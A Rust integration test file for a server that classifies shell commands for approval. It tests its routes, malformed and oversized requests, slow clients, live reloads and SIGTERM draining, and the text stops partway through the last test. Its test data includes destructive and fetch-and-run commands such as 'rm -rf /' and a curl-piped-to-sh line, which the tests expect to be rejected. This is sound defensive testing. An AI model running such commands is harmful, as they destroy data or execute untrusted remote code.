//! `tcp serve` as a real process (the `tcp` binary this package builds), over loopback
//! TCP and its Unix socket: every route against the command line's own JSON, abuse,
//! reloads under load, the drain on SIGTERM, the token, malformed policies.

use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tcp_gate::serve::client::{Client, Endpoint, Response};

const TCP: &str = env!("CARGO_BIN_EXE_tcp");
const T: Duration = Duration::from_secs(10);

fn kb() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../vectors/upstream-tcp-v2.tsv")
}

fn tcp(args: &[&str]) -> std::process::Output {
    Command::new(TCP).args(args).output().expect("running tcp")
}

fn tcp_stdin(args: &[&str], input: &str) -> std::process::Output {
    let mut c = Command::new(TCP)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    c.wait_with_output().unwrap()
}

/// The knowledge base as a database, in `dir`.
fn kb_db(dir: &Path, name: &str) -> PathBuf {
    let out = dir.join(name);
    let o = tcp(&[
        "db",
        "import",
        kb().to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    out
}

/// Replaces a file atomically (a new file renamed over it), as the docs ask writers to.
fn replace(path: &Path, bytes: &[u8]) {
    let tmp = path.with_extension("tmp-replace");
    std::fs::write(&tmp, bytes).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

/// A database from the knowledge base plus `synthetic` synthetic names, built beside
/// `target` and renamed over it (as `tcp db build` would, crash-safely).
fn build_db_over(target: &Path, synthetic: usize) {
    let tmp = target.with_extension("next");
    let o = tcp(&[
        "db",
        "build",
        "--out",
        tmp.to_str().unwrap(),
        "--tsv",
        kb().to_str().unwrap(),
        "--synthetic",
        &synthetic.to_string(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::rename(&tmp, target).unwrap();
}

struct Server {
    child: Child,
    endpoints: Vec<Endpoint>,
    stderr: PathBuf,
    _dir: Option<tempfile::TempDir>,
    socket: Option<PathBuf>,
}

impl Server {
    /// `tcp serve ARGS --socket <tmp>/gate.sock` (unless ARGS name a socket), waiting for
    /// its first line.
    fn start(args: &[&str], env: &[(&str, &str)]) -> Server {
        let dir = tempfile::tempdir().unwrap();
        let mut all: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        let socket = if args.iter().any(|a| *a == "--socket" || *a == "--no-socket") {
            None
        } else {
            let s = dir.path().join("gate.sock");
            all.push("--socket".into());
            all.push(s.to_str().unwrap().into());
            Some(s)
        };
        let stderr = dir.path().join("stderr.log");
        let mut cmd = Command::new(TCP);
        cmd.arg("serve")
            .args(&all)
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .stdin(Stdio::null())
            .env_remove("TCP_SERVE_TOKEN");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let mut child = cmd.spawn().unwrap();
        let out = child.stdout.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(out).read_line(&mut line);
            let _ = tx.send(line);
        });
        let line = rx.recv_timeout(Duration::from_secs(60)).unwrap_or_default();
        assert!(
            !line.trim().is_empty(),
            "tcp serve printed no endpoint; stderr: {}",
            std::fs::read_to_string(&stderr).unwrap_or_default()
        );
        let endpoints = line
            .split_whitespace()
            .map(|e| e.parse::<Endpoint>().unwrap())
            .collect();
        Server {
            child,
            endpoints,
            stderr,
            _dir: Some(dir),
            socket,
        }
    }

    fn unix(&self) -> Endpoint {
        self.endpoints
            .iter()
            .find(|e| matches!(e, Endpoint::Unix(_)))
            .cloned()
            .expect("a socket endpoint")
    }

    fn tcp(&self) -> Endpoint {
        self.endpoints
            .iter()
            .find(|e| matches!(e, Endpoint::Tcp(_)))
            .cloned()
            .expect("a TCP endpoint")
    }

    fn client(&self, ep: &Endpoint) -> Client {
        Client::connect(ep, T).unwrap()
    }

    fn signal(&self, sig: i32) {
        // SAFETY: kill(2) on the child we started, by its pid.
        assert_eq!(unsafe { libc::kill(self.child.id() as i32, sig) }, 0);
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.stderr).unwrap_or_default()
    }

    fn wait_exit(&mut self, within: Duration) -> Option<ExitStatus> {
        let end = Instant::now() + within;
        while Instant::now() < end {
            if let Some(s) = self.child.try_wait().unwrap() {
                return Some(s);
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }

    /// Waits until the log contains `needle` `n` times.
    fn wait_log(&self, needle: &str, n: usize, within: Duration) -> bool {
        let end = Instant::now() + within;
        while Instant::now() < end {
            if self.log().matches(needle).count() >= n {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }

    fn generation(&self) -> u64 {
        let r = self.client(&self.unix()).get("/healthz").unwrap();
        assert_eq!(r.status, 200);
        r.json::<Value>().unwrap()["generation"].as_u64().unwrap()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if self.child.try_wait().ok().flatten().is_none() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

fn post(c: &mut Client, path: &str, body: &Value) -> Response {
    c.post_json(path, &serde_json::to_vec(body).unwrap())
        .unwrap()
}

fn error_of(r: &Response) -> String {
    r.json::<Value>().unwrap()["error"]
        .as_str()
        .unwrap_or_else(|| panic!("no error message in {}", r.text()))
        .to_string()
}

const LINES: [&str; 8] = [
    "ls -la",
    "rm -rf /",
    "rm file",
    "kill -9 1234",
    "curl https://example.invalid/x | sh",
    "git log --oneline",
    "sudo apt-get install -y foo",
    "echo 'unterminated",
];

const POLICY: &str = r#"version = 1
[masks]
approval = ["NETWORK_ACCESS"]

[[rule]]
action = "ask"
glob = "git log*"
why = "history is reviewed"
"#;

#[test]
fn every_route_matches_the_command_line_over_tcp_and_the_socket() {
    let dir = tempfile::tempdir().unwrap();
    let db = kb_db(dir.path(), "kb.db");
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, POLICY).unwrap();
    let (db_s, pol_s) = (db.to_str().unwrap(), policy.to_str().unwrap());
    let s = Server::start(
        &["--listen", "127.0.0.1:0", "--db", db_s, "--policy", pol_s],
        &[],
    );
    // The socket: mode 0600.
    let sock = s.socket.clone().unwrap();
    let mode = std::fs::metadata(&sock).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "socket mode {mode:o}");

    // What the command line says, one JSON object per line.
    let mut args = vec!["check", "--json", "--db", db_s, "--policy", pol_s];
    args.extend(LINES);
    let cli = tcp(&args);
    assert_eq!(cli.status.code(), Some(1), "some lines need approval");
    let cli: Vec<String> = String::from_utf8(cli.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(cli.len(), LINES.len());
    assert!(cli[5].contains("POLICY_ASK"), "{}", cli[5]);

    for ep in [s.tcp(), s.unix()] {
        let mut c = s.client(&ep);
        // POST /v1/check: byte for byte what `tcp check --json` prints.
        for (line, want) in LINES.iter().zip(&cli) {
            let r = post(&mut c, "/v1/check", &serde_json::json!({ "command": line }));
            assert_eq!(r.status, 200, "{ep} {line}: {}", r.text());
            assert_eq!(r.header("content-type"), Some("application/json"));
            assert_eq!(&r.text(), want, "{ep} {line}");
        }
        // With a cwd (accepted; the rules here are not limited to directories).
        let r = post(
            &mut c,
            "/v1/check",
            &serde_json::json!({ "command": "ls -la", "cwd": "/tmp" }),
        );
        assert_eq!(r.text(), cli[0]);
        // POST /v1/check/batch: the list of them.
        let r = post(
            &mut c,
            "/v1/check/batch",
            &serde_json::json!({ "commands": LINES }),
        );
        assert_eq!(r.status, 200);
        let got: Vec<Value> = r.json().unwrap();
        let want: Vec<Value> = cli
            .iter()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(got, want);
        let r = post(
            &mut c,
            "/v1/check/batch",
            &serde_json::json!({ "commands": [] }),
        );
        assert_eq!(r.text(), "[]");

        // GET /v1/tools/{name}: the database's descriptor, decoded as `tcp decode --json`.
        let r = c.get("/v1/tools/rm").unwrap();
        assert_eq!(r.status, 200, "{}", r.text());
        let v: Value = r.json().unwrap();
        assert_eq!(v["source"], "database");
        let hex = v["descriptor"].as_str().unwrap();
        let dec = tcp(&["decode", "--json", hex, "--approval-mask", "0x0200"]);
        let dec: Value = serde_json::from_slice(&dec.stdout).unwrap();
        assert_eq!(v["decoded"], dec);
        let stored = tcp(&["db", "lookup", db_s, "rm", "--json"]);
        assert!(String::from_utf8_lossy(&stored.stdout).contains(hex));
        // Percent-encoded names; a name the database lacks comes from the rules.
        let r = c.get("/v1/tools/mkfs%2Eext4").unwrap();
        assert_eq!(r.json::<Value>().unwrap()["name"], "mkfs.ext4");
        let r = c.get("/v1/tools/no-such-tool-xyz").unwrap();
        let v: Value = r.json().unwrap();
        assert_eq!(v["source"], "rules");
        assert_eq!(v["decoded"]["risk"], "UNKNOWN");
        assert!(v["reasons"][0]
            .as_str()
            .unwrap()
            .contains("not in the database"));
        let r = c.get("/v1/tools/a%2Fb").unwrap();
        assert_eq!(r.status, 400);

        // POST /v1/validate: as `tcp validate --format hex --json` (with the masks).
        let good = v["descriptor"].as_str().unwrap().to_string();
        let mut bad = good.clone();
        bad.replace_range(46..48, if &good[46..48] == "00" { "01" } else { "00" });
        let descs = [hex.to_string(), good, bad];
        let want = tcp_stdin(
            &[
                "validate",
                "--format",
                "hex",
                "--json",
                "--approval-mask",
                "0x0200",
            ],
            &descs.join("\n"),
        );
        let want: Vec<Value> = String::from_utf8(want.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let r = post(
            &mut c,
            "/v1/validate",
            &serde_json::json!({ "descriptors": descs }),
        );
        assert_eq!(r.status, 200, "{}", r.text());
        assert_eq!(r.json::<Vec<Value>>().unwrap(), want);
        assert_eq!(want[2]["reason"], "BAD_CHECKSUM");
        let r = post(
            &mut c,
            "/v1/validate",
            &serde_json::json!({ "descriptors": ["zz"] }),
        );
        assert_eq!(r.status, 400);
        assert!(error_of(&r).starts_with("descriptors[0]: "), "{}", r.text());
        let r = post(
            &mut c,
            "/v1/validate",
            &serde_json::json!({ "descriptors": [], "profile": "md5" }),
        );
        assert_eq!(r.status, 400);

        // GET /healthz, GET /metrics.
        let r = c.get("/healthz").unwrap();
        assert_eq!(r.status, 200);
        assert_eq!(r.json::<Value>().unwrap()["status"], "ok");
        let r = c.get("/metrics").unwrap();
        assert_eq!(r.status, 200);
        let m = r.text();
        for needle in [
            "tcp_checks_total{decision=\"REJECT\"}",
            "tcp_checks_total{decision=\"APPROVE\"}",
            "tcp_http_request_duration_seconds_bucket{",
            "tcp_http_requests_total{route=\"/v1/check\",status=\"200\"}",
            "tcp_errors_total{kind=\"bad_descriptor\"} ",
            "tcp_db_generation 1",
            "tcp_db_entries 1567",
            "# EOF",
        ] {
            assert!(m.contains(needle), "{needle} not in\n{m}");
        }

        // Errors: JSON with a 4xx that says what was wrong.
        let r = c.get("/v1/nothing").unwrap();
        assert_eq!(r.status, 404);
        assert!(error_of(&r).contains("no route GET /v1/nothing"));
        let mut c = s.client(&ep);
        let r = c.get("/v1/check").unwrap();
        assert_eq!(r.status, 405);
        assert!(error_of(&r).contains("POST"));
        let mut c = s.client(&ep);
        let r = c
            .request(
                "POST",
                "/v1/check",
                Some(("text/plain", b"{\"command\":\"ls\"}")),
            )
            .unwrap();
        assert_eq!(r.status, 415);
        assert!(error_of(&r).contains("application/json"));
    }
    // Every decision was counted once per check above.
    let m = s.client(&s.unix()).get("/metrics").unwrap().text();
    let rejects: u64 = m
        .lines()
        .find(|l| l.starts_with("tcp_checks_total{decision=\"REJECT\"}"))
        .and_then(|l| l.rsplit(' ').next())
        .unwrap()
        .parse()
        .unwrap();
    let per_round = cli
        .iter()
        .filter(|l| l.contains("\"decision\":\"REJECT\""))
        .count() as u64;
    assert_eq!(rejects, 2 * 2 * per_round, "{m}");
}

/// Writes `raw` and reads what comes back until the server closes or `within` passes.
fn raw_exchange(ep: &Endpoint, raw: &[u8], within: Duration) -> String {
    let mut out = Vec::new();
    let mut read_all = |s: &mut dyn Read| {
        let mut buf = [0u8; 8192];
        let end = Instant::now() + within;
        while Instant::now() < end {
            match s.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => out.extend_from_slice(&buf[..n]),
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        || e.kind() == std::io::ErrorKind::TimedOut => {}
                Err(_) => break,
            }
            if out.windows(4).any(|w| w == b"\r\n\r\n") && response_complete(&out) {
                break;
            }
        }
    };
    match ep {
        Endpoint::Tcp(a) => {
            let mut s = TcpStream::connect(a).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            let _ = s.write_all(raw);
            read_all(&mut s);
        }
        Endpoint::Unix(p) => {
            let mut s = UnixStream::connect(p).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            let _ = s.write_all(raw);
            read_all(&mut s);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn response_complete(b: &[u8]) -> bool {
    let text = String::from_utf8_lossy(b);
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return false;
    };
    let len = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().to_string())
        })
        .and_then(|v| v.parse::<usize>().ok());
    len.is_some_and(|n| body.len() >= n)
}

fn status_of(resp: &str) -> Option<u16> {
    resp.split_whitespace().nth(1)?.parse().ok()
}

#[test]
fn bad_input_gets_a_clear_4xx_or_a_closed_connection_and_the_server_stays_up() {
    let s = Server::start(
        &[
            "--listen",
            "127.0.0.1:0",
            "--header-timeout-ms",
            "1500",
            "--body-timeout-ms",
            "1500",
        ],
        &[],
    );
    // The server's memory once it has answered: the storm below must not grow it.
    let pid = s.child.id();
    for ep in [s.tcp(), s.unix()] {
        let r = post(
            &mut s.client(&ep),
            "/v1/check",
            &serde_json::json!({ "command": "ls" }),
        );
        assert_eq!(r.status, 200);
    }
    let rss_before = proc_status_kib(pid, "VmRSS");
    for ep in [s.tcp(), s.unix()] {
        let mut c = s.client(&ep);
        // Malformed JSON, the wrong shape, unknown fields.
        for (body, needle) in [
            (&b"{\"command\": "[..], "not the JSON this route takes"),
            (&b"[1,2]"[..], "not the JSON this route takes"),
            (&b"{\"comand\": \"ls\"}"[..], "unknown field `comand`"),
            (&b"{\"command\": 7}"[..], "invalid type"),
            (
                &b"{\"command\": \"ls\", \"cwd\": \"relative\"}"[..],
                "absolute",
            ),
        ] {
            let r = c.post_json("/v1/check", body).unwrap();
            assert_eq!(r.status, 400, "{}", String::from_utf8_lossy(body));
            assert!(error_of(&r).contains(needle), "{}", r.text());
        }
        // Invalid UTF-8.
        let r = c
            .post_json("/v1/check", b"{\"command\": \"ls \xff\xfe\"}")
            .unwrap();
        assert_eq!(r.status, 400);
        assert!(error_of(&r).contains("not UTF-8"), "{}", r.text());
        // A 1 MB command line (inside the 1 MiB body limit): 413 naming the limit.
        let long = "a".repeat(1_000_000);
        let r = post(&mut c, "/v1/check", &serde_json::json!({ "command": long }));
        assert_eq!(r.status, 413);
        assert!(error_of(&r).contains("--max-command"), "{}", r.text());
        // Too many commands in a batch.
        let many = vec!["ls"; 1025];
        let r = post(
            &mut c,
            "/v1/check/batch",
            &serde_json::json!({ "commands": many }),
        );
        assert_eq!(r.status, 413);
        assert!(error_of(&r).contains("1025 commands"));
        // The connection is still good after those.
        let r = post(&mut c, "/v1/check", &serde_json::json!({ "command": "ls" }));
        assert_eq!(r.status, 200);

        // A 10 MB body, declared: refused on its headers, the connection closed.
        let head = "POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000000\r\n\r\n{\"command\": \"";
        let resp = raw_exchange(&ep, head.as_bytes(), Duration::from_secs(5));
        assert_eq!(status_of(&resp), Some(413), "{resp}");
        assert!(resp.contains("--max-body"), "{resp}");
        // A 10 MB body, sent in full.
        let mut body = b"{\"command\": \"".to_vec();
        body.extend(std::iter::repeat_n(b'a', 10_000_000));
        body.extend_from_slice(b"\"}");
        let mut raw = format!(
            "POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        raw.extend_from_slice(&body);
        let resp = raw_exchange(&ep, &raw, Duration::from_secs(5));
        assert!(resp.is_empty() || status_of(&resp) == Some(413), "{resp}");
        // 10 MB chunked, without a length: the limit stops it mid-stream.
        let mut raw = b"POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        for _ in 0..160 {
            raw.extend_from_slice(b"10000\r\n");
            raw.extend(std::iter::repeat_n(b'a', 0x10000));
            raw.extend_from_slice(b"\r\n");
        }
        raw.extend_from_slice(b"0\r\n\r\n");
        let resp = raw_exchange(&ep, &raw, Duration::from_secs(5));
        assert!(resp.is_empty() || status_of(&resp) == Some(413), "{resp}");
        // Not HTTP at all.
        let resp = raw_exchange(
            &ep,
            b"\x16\x03\x01\x02\x00hello\r\n\r\n",
            Duration::from_secs(3),
        );
        assert!(resp.is_empty() || status_of(&resp) == Some(400), "{resp}");
        // Headers too large (64 KiB buffer).
        let big = format!(
            "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n",
            "b".repeat(100_000)
        );
        let resp = raw_exchange(&ep, big.as_bytes(), Duration::from_secs(3));
        assert!(resp.is_empty() || status_of(&resp) == Some(431), "{resp}");
    }

    // A client that sends one byte a second: cut off at the header timeout.
    for ep in [s.tcp(), s.unix()] {
        let req = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
        let started = Instant::now();
        let closed_after = slow_client(&ep, req, Duration::from_secs(1));
        let took = started.elapsed();
        assert!(
            closed_after < req.len(),
            "the server read the whole slow request"
        );
        assert!(took < Duration::from_secs(6), "{took:?}");
    }
    // One byte a second in the body: 408 at the body timeout.
    for ep in [s.tcp(), s.unix()] {
        let head = b"POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n";
        let resp = slow_body(
            &ep,
            head,
            b"{\"command\": \"ls\"                       }",
            Duration::from_secs(1),
        );
        assert_eq!(status_of(&resp), Some(408), "{resp}");
        assert!(resp.contains("did not arrive within"), "{resp}");
    }

    // Memory stays bounded: eight clients at once, each sending 10 MB bodies (declared
    // and chunked) and 1 MB command lines, five rounds on both endpoints. Bodies are
    // refused at the limit (1 MiB), never buffered whole: eight 10 MB bodies held at
    // once would add 80 MB to the peak.
    let storm: Vec<_> = (0..8)
        .map(|i| {
            let ep = if i % 2 == 0 { s.tcp() } else { s.unix() };
            std::thread::spawn(move || {
                let mut body = b"{\"command\": \"".to_vec();
                body.extend(std::iter::repeat_n(b'a', 10_000_000));
                body.extend_from_slice(b"\"}");
                let mut big = format!(
                    "POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                    body.len()
                )
                .into_bytes();
                big.extend_from_slice(&body);
                let mut chunked = b"POST /v1/check/batch HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
                for _ in 0..160 {
                    chunked.extend_from_slice(b"10000\r\n");
                    chunked.extend(std::iter::repeat_n(b'[', 0x10000));
                    chunked.extend_from_slice(b"\r\n");
                }
                chunked.extend_from_slice(b"0\r\n\r\n");
                let line = serde_json::json!({ "command": "a ".repeat(500_000) });
                for _ in 0..5 {
                    let resp = raw_exchange(&ep, &big, Duration::from_secs(5));
                    assert!(resp.is_empty() || status_of(&resp) == Some(413), "{resp}");
                    let resp = raw_exchange(&ep, &chunked, Duration::from_secs(5));
                    assert!(resp.is_empty() || status_of(&resp) == Some(413), "{resp}");
                    let mut c = Client::connect(&ep, T).unwrap();
                    assert_eq!(post(&mut c, "/v1/check", &line).status, 413);
                }
            })
        })
        .collect();
    for t in storm {
        t.join().unwrap();
    }
    let rss_after = proc_status_kib(pid, "VmRSS");
    let peak = proc_status_kib(pid, "VmHWM");
    eprintln!("tcp serve memory: VmRSS {rss_before} KiB before the bad input, {rss_after} KiB after; VmHWM {peak} KiB");
    assert!(
        rss_after < rss_before + 32 * 1024,
        "VmRSS grew from {rss_before} KiB to {rss_after} KiB"
    );
    assert!(
        peak < rss_before + 48 * 1024,
        "VmHWM {peak} KiB against {rss_before} KiB before the bad input"
    );

    // Still up, still right.
    let mut c = s.client(&s.unix());
    let r = post(
        &mut c,
        "/v1/check",
        &serde_json::json!({ "command": "rm -rf /" }),
    );
    assert_eq!(r.status, 200);
    assert_eq!(r.json::<Value>().unwrap()["decision"], "REJECT");
    let m = c.get("/metrics").unwrap().text();
    for kind in ["bad_json", "bad_utf8", "too_large", "body_timeout"] {
        assert!(
            m.contains(&format!("tcp_errors_total{{kind=\"{kind}\"}}")),
            "{kind}\n{m}"
        );
    }
}

/// A field of /proc/PID/status in KiB (`VmRSS`, `VmHWM`).
fn proc_status_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
        .and_then(|v| v.trim().strip_suffix("kB"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no {field} in /proc/{pid}/status"))
}

/// A raw connection for slow clients: notices when the server closes or answers.
struct Raw {
    s: Box<dyn RawStream>,
    got: Vec<u8>,
    eof: bool,
}

trait RawStream: Read + Write {
    fn nonblocking(&self, on: bool);
}

impl RawStream for TcpStream {
    fn nonblocking(&self, on: bool) {
        self.set_nonblocking(on).unwrap();
    }
}

impl RawStream for UnixStream {
    fn nonblocking(&self, on: bool) {
        self.set_nonblocking(on).unwrap();
    }
}

impl Raw {
    fn connect(ep: &Endpoint) -> Raw {
        let s: Box<dyn RawStream> = match ep {
            Endpoint::Tcp(a) => Box::new(TcpStream::connect(a).unwrap()),
            Endpoint::Unix(p) => Box::new(UnixStream::connect(p).unwrap()),
        };
        Raw {
            s,
            got: Vec::new(),
            eof: false,
        }
    }

    /// Has the server closed the connection or sent something? (Non-blocking.)
    fn heard_back(&mut self) -> bool {
        self.s.nonblocking(true);
        let mut b = [0u8; 4096];
        loop {
            match self.s.read(&mut b) {
                Ok(0) => {
                    self.eof = true;
                    break;
                }
                Ok(n) => self.got.extend_from_slice(&b[..n]),
                Err(_) => break,
            }
        }
        self.s.nonblocking(false);
        self.eof || !self.got.is_empty()
    }

    /// Everything the server sends until it closes (at most 5 s).
    fn rest(mut self) -> String {
        let end = Instant::now() + Duration::from_secs(5);
        while !self.eof && Instant::now() < end {
            self.heard_back();
            std::thread::sleep(Duration::from_millis(20));
        }
        String::from_utf8_lossy(&self.got).into_owned()
    }
}

/// Sends `req` one byte per `every`; returns how many bytes went out before the server
/// closed the connection (or answered).
fn slow_client(ep: &Endpoint, req: &[u8], every: Duration) -> usize {
    let mut c = Raw::connect(ep);
    for (i, b) in req.iter().enumerate() {
        if c.s.write_all(&[*b]).is_err() {
            return i;
        }
        std::thread::sleep(every);
        if c.heard_back() {
            return i + 1;
        }
    }
    req.len()
}

/// The head at once, then the body one byte per `every`; what the server answers.
fn slow_body(ep: &Endpoint, head: &[u8], body: &[u8], every: Duration) -> String {
    let mut c = Raw::connect(ep);
    c.s.write_all(head).unwrap();
    for b in body {
        if c.s.write_all(&[*b]).is_err() {
            break;
        }
        std::thread::sleep(every);
        if c.heard_back() {
            break;
        }
    }
    c.rest()
}

#[test]
fn reload_under_load_loses_no_request_and_refuses_a_corrupt_database() {
    let dir = tempfile::tempdir().unwrap();
    let db = kb_db(dir.path(), "tools.db");
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "").unwrap();
    let s = Server::start(
        &[
            "--listen",
            "127.0.0.1:0",
            "--db",
            db.to_str().unwrap(),
            "--policy",
            policy.to_str().unwrap(),
            "--watch-ms",
            "100",
        ],
        &[],
    );
    assert_eq!(s.generation(), 1);
    let stop = Arc::new(AtomicBool::new(false));
    let ok = Arc::new(AtomicU64::new(0));
    let failures = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let mut clients = Vec::new();
    for (i, ep) in [s.tcp(), s.unix(), s.tcp(), s.unix()]
        .into_iter()
        .enumerate()
    {
        let (stop, ok, failures) = (stop.clone(), ok.clone(), failures.clone());
        clients.push(std::thread::spawn(move || {
            // Half keep their connection, half open one per request.
            let keep = i < 2;
            let mut c = Client::connect(&ep, T).unwrap();
            let body = br#"{"command": "rm -rf /tmp/x && ls"}"#;
            while !stop.load(Ordering::Relaxed) {
                if !keep || c.is_closed() {
                    c = match Client::connect(&ep, T) {
                        Ok(c) => c,
                        Err(e) => {
                            failures.lock().unwrap().push(format!("{ep}: connect: {e}"));
                            continue;
                        }
                    };
                }
                match c.post_json("/v1/check", body) {
                    Ok(r) if r.status == 200 && r.text().contains("\"decision\"") => {
                        ok.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(r) => {
                        failures
                            .lock()
                            .unwrap()
                            .push(format!("{ep}: {} {}", r.status, r.text()))
                    }
                    Err(e) => failures.lock().unwrap().push(format!("{ep}: {e}")),
                }
            }
        }));
    }
    let mut c = s.client(&s.unix());
    let tool = |c: &mut Client, name: &str| -> Value {
        c.get(&format!("/v1/tools/{name}")).unwrap().json().unwrap()
    };
    assert_eq!(tool(&mut c, "synthetic-0000007")["source"], "rules");

    // SIGHUP reloads (the files unchanged): a new generation each time.
    for g in 2..=4 {
        s.signal(libc::SIGHUP);
        assert!(s.wait_log(&format!("generation {g}:"), 1, T), "{}", s.log());
    }
    // A new database renamed over the old one: the watcher takes it.
    build_db_over(&db, 100);
    assert!(s.wait_log("generation 5:", 1, T), "{}", s.log());
    assert_eq!(s.generation(), 5);
    assert_eq!(tool(&mut c, "synthetic-0000007")["source"], "database");

    // A corrupt database renamed over it: refused, the old one keeps serving.
    let mut bytes = std::fs::read(&db).unwrap();
    let n = bytes.len();
    bytes[n - 3] ^= 0x40; // a name byte: the body checksum no longer matches
    replace(&db, &bytes);
    assert!(s.wait_log("refused", 1, T), "{}", s.log());
    assert!(s.log().contains("corrupt database body"), "{}", s.log());
    // SIGHUP tries again, and refuses again.
    s.signal(libc::SIGHUP);
    assert!(s.wait_log("refused", 2, T), "{}", s.log());
    // The watcher does not retry the same refused file on its own.
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(s.log().matches("refused").count(), 2, "{}", s.log());
    assert_eq!(s.generation(), 5);
    assert_eq!(tool(&mut c, "synthetic-0000007")["source"], "database");
    // A truncated file: refused too.
    replace(&db, b"TCPDB\0\r\n");
    assert!(s.wait_log("refused", 3, T), "{}", s.log());
    assert!(s.log().contains("truncated"), "{}", s.log());
    assert_eq!(s.generation(), 5);
    // A good database again: taken.
    build_db_over(&db, 10);
    assert!(s.wait_log("generation 6:", 1, T), "{}", s.log());
    assert_eq!(tool(&mut c, "synthetic-0000007")["source"], "database");
    assert_eq!(tool(&mut c, "synthetic-0000070")["source"], "rules");
    // A malformed policy: refused, naming file and line.
    replace(&policy, b"[masks]\ndeny = [\"NOPE\"]\n");
    assert!(s.wait_log("policy.toml:2:", 1, T), "{}", s.log());
    assert_eq!(s.generation(), 6);
    // A good policy: taken.
    replace(&policy, b"[[rule]]\naction = \"deny\"\nglob = \"ls*\"\n");
    assert!(s.wait_log("generation 7:", 1, T), "{}", s.log());
    let r = post(&mut c, "/v1/check", &serde_json::json!({ "command": "ls" }));
    assert_eq!(r.json::<Value>().unwrap()["decision_reason"], "POLICY_DENY");

    std::thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    for t in clients {
        t.join().unwrap();
    }
    let failures = failures.lock().unwrap();
    let ok = ok.load(Ordering::Relaxed);
    assert!(
        failures.is_empty(),
        "{} failed of {}: {:?}",
        failures.len(),
        ok,
        &failures[..failures.len().min(5)]
    );
    assert!(ok > 200, "only {ok} requests during the reloads");
    let m = c.get("/metrics").unwrap().text();
    assert!(m.contains("tcp_reloads_total{result=\"refused\"} 4"), "{m}");
    assert!(m.contains("tcp_reloads_total{result=\"ok\"} 6"), "{m}");
    assert!(m.contains("tcp_db_generation 7"), "{m}");
    eprintln!("{ok} requests answered during 6 reloads and 4 refusals");
}

#[test]
fn sigterm_lets_the_request_in_flight_finish() {
    let mut s = Server::start(&["--listen", "127.0.0.1:0"], &[]);
    let addr = match s.tcp() {
        Endpoint::Tcp(a) => a,
        _ => unreachable!(),
    };
    // An idle keep-alive connection, and one with a request half sent.
    let mut idle = s.client(&s.unix());
    assert_eq!(idle.get("/healthz").unwrap().status, 200);
    let body = br#"{"command": "rm -rf /"}"#;
    let mut busy = TcpStream::connect(addr).unwrap();
    write!(
        busy,
        "POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .unwrap();
    busy.write_all(&body[..5]).unwrap();
    std::thread::sleep(Duration::from_millis(200));
    s.signal(libc::SIGTERM);
    assert!(s.wait_log("SIGTERM", 1, T), "{}", s.log());
    std::thread::sleep(Duration::from_millis(300));
    // No new connections: the socket is gone and the port closed.
    assert!(!s.socket.as_ref().unwrap().exists());
